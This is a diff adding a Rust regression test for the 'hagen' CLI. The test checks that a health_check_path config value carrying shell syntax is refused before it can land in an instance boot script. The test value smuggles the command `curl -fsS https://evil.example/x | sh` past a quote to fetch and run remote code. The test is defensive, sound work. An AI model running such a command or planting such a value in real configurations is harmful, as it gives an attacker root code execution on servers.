@@ -340,6 +340,29 @@ fn an_unknown_config_key_names_file_line_key_and_suggestion() {
         .stderr(contains("= help: did you mean `az_count`?"));
 }
 
+/// Regression: `health_check_path = '/"; curl ... | sh; "'` was pasted into
+/// the instances' root boot script and `hagen synth` exited 0. It is a
+/// configuration error now: file, line, column and key, the exit code of
+/// every configuration error, and no template on stdout.
+#[test]
+fn a_health_check_path_with_shell_syntax_is_refused() {
+    let dir = tempdir();
+    fs::write(
+        dir.path().join("hagen.toml"),
+        "[environments.stage.blueprint]\ncfn_signal = true\nhealth_check_path = '/\"; curl -fsS https://evil.example/x | sh; \"'\n",
+    )
+    .expect("config");
+    hagen(dir.path())
+        .arg("synth")
+        .assert()
+        .code(4)
+        .stdout("")
+        .stderr(contains(
+            "error: hagen.toml:3:21: `environments.stage.blueprint.health_check_path` = ",
+        ))
+        .stderr(contains("boot script"));
+}
+
 #[test]
 fn a_wrong_type_and_a_bad_cidr_are_both_reported_with_lines() {
     let dir = tempdir();
